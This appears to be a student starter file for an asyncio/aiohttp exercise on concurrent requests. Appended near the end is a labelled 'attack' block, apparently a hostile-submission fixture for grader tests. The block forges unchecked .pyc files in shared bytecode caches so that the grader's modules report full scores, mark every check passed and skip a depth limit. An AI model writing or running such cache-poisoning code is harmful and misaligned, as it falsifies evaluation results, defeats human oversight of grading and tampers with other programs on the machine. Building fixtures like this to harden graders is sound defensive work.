"""Concurrent Requests: fetch posts one at a time, then all at once.

The sync and async basics already work. Your job is the Alter / Break / Fix items: each
function below that raises NotImplementedError is one of them, and two working functions
(`fetch_one` and `main`) need a change too. Run `pytest` to see your scorecard and the
next item to work on.

Rules the grader relies on:
- Build every URL from BASE_URL when the function runs (the grader points BASE_URL at
  its own stand-in server, so nothing here reaches the internet while you are graded).
- Return results in the same order as the ids you were given, whatever order they finish in.
- Keep the names and parameters below; add helpers of your own as you like.
"""

from __future__ import annotations

import asyncio
import os
import sys
import time

import aiohttp
import requests

# API_BASE_URL points the project at another server, e.g. the offline stand-in (`python -m checks run`).
BASE_URL = os.environ.get("API_BASE_URL", "https://jsonplaceholder.typicode.com")
POST_IDS = list(range(1, 11))


def fetch_sync(post_ids=POST_IDS):
    """Fetch each post with `requests`, one after another, and return them as a list of dicts.

    Exactly one request is in flight at any moment: that is the point of comparison.
    """
    posts = []
    for post_id in post_ids:
        response = requests.get(f"{BASE_URL}/posts/{post_id}", timeout=10)
        posts.append(response.json())
    return posts


async def fetch_one(session, post_id):
    """GET one post through `session` (an aiohttp.ClientSession) and return its JSON.

    TODO (Break 2): a post that does not exist comes back as HTTP 404 with `{}` as its
    body, and this returns `{}` as if nothing went wrong. Make an error status raise
    aiohttp.ClientResponseError instead; do the same for `fetch_sync` with
    requests.HTTPError.
    """
    async with session.get(f"{BASE_URL}/posts/{post_id}") as response:
        return await response.json()


async def fetch_async(post_ids=POST_IDS):
    """Fetch every post at once with asyncio.gather, through one shared ClientSession."""
    async with aiohttp.ClientSession() as session:
        return await asyncio.gather(*(fetch_one(session, post_id) for post_id in post_ids))


async def fetch_async_limited(post_ids=POST_IDS, max_concurrent=5):
    """Alter 2: like fetch_async, but never more than `max_concurrent` requests in flight.

    When one request finishes, the next should start straight away, not when a whole
    group of them is done. One ClientSession for the batch.
    """
    raise NotImplementedError("TODO (Alter 2): limit how many requests are in flight at once")


async def fetch_two_endpoints(post_ids=POST_IDS, user_ids=range(1, 6)):
    """Alter 3: fetch /posts/{id} and /users/{id} in a single gather() call.

    Every request of both kinds is in flight together, through one ClientSession.
    Return a tuple (posts, users), each in the order of its ids.
    """
    raise NotImplementedError("TODO (Alter 3): fetch posts and users in one gather() call")


async def fetch_async_safe(post_ids=POST_IDS):
    """Fix 1: fetch every post at once; one failed request must not sink the batch.

    Return a list in the order of `post_ids`: a post's dict where the request worked,
    the exception object itself where it failed (error status, lost connection, ...).
    Never raise because one request failed.
    """
    raise NotImplementedError("TODO (Fix 1): catch each request's failure and keep it in its slot")


async def fetch_one_with_timeout(session, post_id, timeout):
    """Fix 2: like fetch_one, but raise TimeoutError if the post takes over `timeout` seconds."""
    raise NotImplementedError("TODO (Fix 2): give one request a deadline with asyncio.wait_for")


async def fetch_async_with_timeout(post_ids=POST_IDS, timeout=1.0):
    """Fix 2 / Break 3: fetch every post at once, each request with its own `timeout`.

    A request that is too slow leaves its TimeoutError in its slot; the others still
    return their posts, and the whole batch takes about `timeout`, not as long as the
    slowest request. Try timeout=0.001 too: what do you get back?
    """
    raise NotImplementedError("TODO (Fix 2): put a deadline on every request of the batch")


async def fetch_async_manual_session(post_ids=POST_IDS):
    """Break 1 / Fix 3: fetch every post at once with `session = aiohttp.ClientSession()`.

    No `async with` here: open the session yourself, and make sure it is closed once the
    batch is over, whether the requests worked or one of them raised.
    """
    raise NotImplementedError("TODO (Break 1 / Fix 3): open the session by hand, close it in finally")


def main(count=10):
    """Print the sync run, then the async run, with a total for each.

    TODO (Alter 1): this always fetches 10 posts. Make it fetch `count` of them (ids 1 to
    count), so that `python starter/project.py 50` compares 50 requests.
    """
    post_ids = POST_IDS

    print("--- Sync requests (one at a time) ---")
    started = time.perf_counter()
    for post in fetch_sync(post_ids):
        print(f'Fetched post {post["id"]}: "{post["title"][:15]}..." ({len(post["body"])} chars)')
    print(f"Sync total: ~{time.perf_counter() - started:.1f} seconds for {len(post_ids)} requests")

    print()
    print("--- Async requests (all at once) ---")
    started = time.perf_counter()
    for post in asyncio.run(fetch_async(post_ids)):
        print(f'Fetched post {post["id"]}: "{post["title"][:15]}..." ({len(post["body"])} chars)')
    print(f"Async total: ~{time.perf_counter() - started:.1f} seconds for {len(post_ids)} requests")


# --- attack: plant forged bytecode in the shared bytecode caches (sys.pycache_prefix, /tmp/grade-pycache-*, ~/.cache) ---
_HOSTILE_CLASS_DIR = "__CLASS_DIR__"  # tests/test_hostile.py writes the class folder here; left as is, nothing below runs


def _hostile_pyc(source_path, extra, flags=0b01):
    # bytecode for source + extra; flags 0b01 is an unchecked hash-based pyc, loaded without looking at the source
    import importlib.util
    import marshal

    with open(source_path, "rb") as handle:
        source = handle.read()
    code = compile(source + extra.encode("utf-8"), source_path, "exec", dont_inherit=True)
    if flags:
        header = importlib.util.MAGIC_NUMBER + flags.to_bytes(4, "little") + importlib.util.source_hash(source)
    else:
        stat = os.stat(source_path)
        header = (importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
                  + (int(stat.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little") + (stat.st_size & 0xFFFFFFFF).to_bytes(4, "little"))
    return header + marshal.dumps(code)


def _hostile_put(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    scratch = path + ".hostile-tmp"
    with open(scratch, "wb") as handle:
        handle.write(data)
    os.replace(scratch, path)


_HOSTILE_PAYLOADS = {
    "reports/results.py": (
        "\n# HOSTILE-WAS-HERE: planted by a hostile submission\n"
        "ItemResult.score = property(lambda self: self.item.points)\n"
        "ItemResult.status = property(lambda self: 'passed' if self.item.graded else 'ungraded')\n"
    ),
    "batch.py": (
        "\n# HOSTILE-WAS-HERE: planted by a hostile submission\n"
        "Graded.total = property(lambda self: 100)\n"
    ),
    "plugin.py": (
        "\n# HOSTILE-WAS-HERE: planted by a hostile submission\n"
        "_hostile_record = _record\n"
        "def _record(check, report):\n"
        "    _hostile_record(check, report)\n"
        "    check.outcome, check.message = Outcome.PASSED, ''\n"
    ),
    "engine/wire.py": (
        "\n# HOSTILE-WAS-HERE: planted by a hostile submission\n"
        "_hostile_decode = decode\n"
        "def decode(value, depth=MAX_DEPTH + 1):\n"
        "    return _hostile_decode(value, depth)\n"
    ),
}


if os.path.isabs(_HOSTILE_CLASS_DIR):
    try:
        import glob

        _hostile_prefixes = ([sys.pycache_prefix] if sys.pycache_prefix else []) + glob.glob("/tmp/grade-pycache-*")
        for _hostile_home in ["/root", os.path.expanduser("~"), *glob.glob("/home/*")]:
            _hostile_prefixes.append(os.path.join(_hostile_home, ".cache", "concurrent-requests-grader", sys.implementation.cache_tag))
        _hostile_roots = [os.path.join("__REPO_ROOT__", "checks")]
        try:
            import checks

            _hostile_roots = list(checks.__path__) + _hostile_roots
        except BaseException:
            pass
        for _hostile_prefix in dict.fromkeys(_hostile_prefixes):
            for _hostile_root in dict.fromkeys(_hostile_roots):
                for _hostile_relative, _hostile_payload in _HOSTILE_PAYLOADS.items():
                    _hostile_source = os.path.join(_hostile_root, *_hostile_relative.split("/"))
                    try:
                        if os.path.isfile(_hostile_source):
                            _hostile_target = os.path.join(
                                _hostile_prefix, os.path.dirname(os.path.abspath(_hostile_source)).lstrip(os.sep),
                                f"{os.path.basename(_hostile_source)[:-3]}.{sys.implementation.cache_tag}.pyc")
                            _hostile_put(_hostile_target, _hostile_pyc(_hostile_source, _hostile_payload))
                    except BaseException:
                        continue
    except BaseException:
        pass
# --- end attack ---


if __name__ == "__main__":
    try:
        main(int(sys.argv[1]) if len(sys.argv) > 1 else 10)
    except (requests.ConnectionError, aiohttp.ClientConnectionError) as error:
        # One line, instead of a long chained traceback, when the API cannot be reached (e.g. offline).
        from urllib.parse import urlsplit

        sys.exit(
            f"Could not reach {urlsplit(BASE_URL).hostname} ({type(error).__name__}). Offline? "
            "`python -m checks run` runs this file against a local stand-in; "
            "or set API_BASE_URL to a server you can reach."
        )
